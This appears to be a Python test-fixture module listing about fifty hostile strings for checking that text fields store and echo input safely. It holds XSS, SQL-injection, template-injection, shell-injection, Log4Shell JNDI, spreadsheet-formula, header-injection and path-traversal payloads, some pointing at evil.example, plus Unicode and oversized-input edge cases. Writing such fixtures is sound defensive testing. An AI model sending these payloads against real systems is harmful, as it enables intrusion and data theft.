"""Fifty texts that have broken somebody's software, for any field that takes words.

None is refused by us: each must be kept, shown back character for character, and stay
words. (What must be refused, such as NUL and lone surrogates, is tested elsewhere.)
`window.__hostile` is what a payload sets when it runs: a browser test asserts it is not.
"""

RUN = "window.__hostile=1"

# Markup that runs where text is written as HTML.
MARKUP = [
    f"<script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<details open ontoggle={RUN}>a</details>",
    f"<body onpageshow={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<a href="javascript:{RUN}">press</a>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    "<style>*{display:none}</style>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><button>Keep</button></form>',
    f"&lt;script&gt;{RUN}&lt;/script&gt; &amp;amp; &#x3C;b&#x3E;",
    f"\u003cimg src=x onerror={RUN}\u003e \\u003cb\\u003e %3Cb%3E",
]

# Text that is dangerous as an address, a template, a query or a shell's line.
LANGUAGES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:/*--></title></style></textarea>*/{RUN}//",
    f"data:text/html,<script>{RUN}</script>",
    "'; DROP TABLE reflections; --",
    '" OR "1"="1',
    "1; SELECT pg_sleep(5) --",
    "100%_\\%\\_ [a-z]* LIKE '%'",
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>{% raw %}",
    "{{constructor.constructor('window.__hostile=1')()}}",
    "{__proto__} __proto__ constructor prototype",
    "%s %d %(name)s {0} {person.__class__} \\x00 \\",
    "$(touch /tmp/hostile) `id` | cat ; & > /dev/null",
    "${jndi:ldap://evil.example/a}",
    '=HYPERLINK("https://evil.example","press")+cmd|\' /C calc\'!A0',
    "Subject: hello\r\nBcc: everyone@evil.example\r\n\r\nbody",
    '{"text": "null", "a": [1, {"b": undefined}]}',
    "../../../../etc/passwd ..\\..\\boot.ini file:///etc/passwd",
]

# Text that is only text, and hard to lay out, to compare, to cut or to keep.
WRITING = [
    "\u202eeverything here reads backwards\u202c \u2066and this is alone\u2069 \u061c",
    "Z\u0351\u0367\u0301a\u0310\u0352\u0324l\u0315\u0322\u0334g\u0321\u0338\u0489o" * 12,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 "
    "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f "
    "\U0001f469\U0001f3fd\u200d\u2695\ufe0f 1\ufe0f\u20e3 " * 8,
    "W" * 600,
    "a\u0301 \u00e1 \ufb01 \u2460 \u212b \u01c5 \u0130 \u0131 \u00df \u1e9e",
    "a\u200bb\u200cc\u200dd\u2060e\ufeff\u00ad\u034f\u115f\u3164",
    "\u0627\u0644\u0633\u0644\u0627\u0645 and \u05e9\u05dc\u05d5\u05dd and 12\u066034, in one line",
    "\U0010ffff\ufffd\ufffe \U0001f9ff\ue000 \u2028 \u2029 \x85",
    "\t  spaces \u3000 before,\n\n\n\nbetween\n and after  \n\t",
    "\x01\x07\x08\x0b\x0c\x1b[31mred\x1b[0m\x7f\x9b",
]

HOSTILE_TEXTS = MARKUP + LANGUAGES + WRITING

# Texts that are far too long and whose normalising takes the square of their length: marks that
# must be put in order, letters that become many, syllables that are put together. Each fills a
# body of nearly 256 kB in UTF-8; all are to be refused by their length, before anything else.
TOO_LONG_TO_COMPARE = [
    "a" + "\u0316\u0300" * 60_000,
    "a@" + "\u0345\u0301\u0327\u0316" * 30_000 + ".example",
    ("e" + "\u0301" * 29 + "\u0327" * 30) * 2_000,
    "\ufdfa" * 80_000,
    "\u1100\u1161\u11a8" * 26_000,
    "\U0001d15f\u0300" * 40_000,
    "\u0344" * 120_000,
    "\u200b" * 40_000 + "\u0300\u0316" * 30_000,
    " " * 240_000 + "a",
]
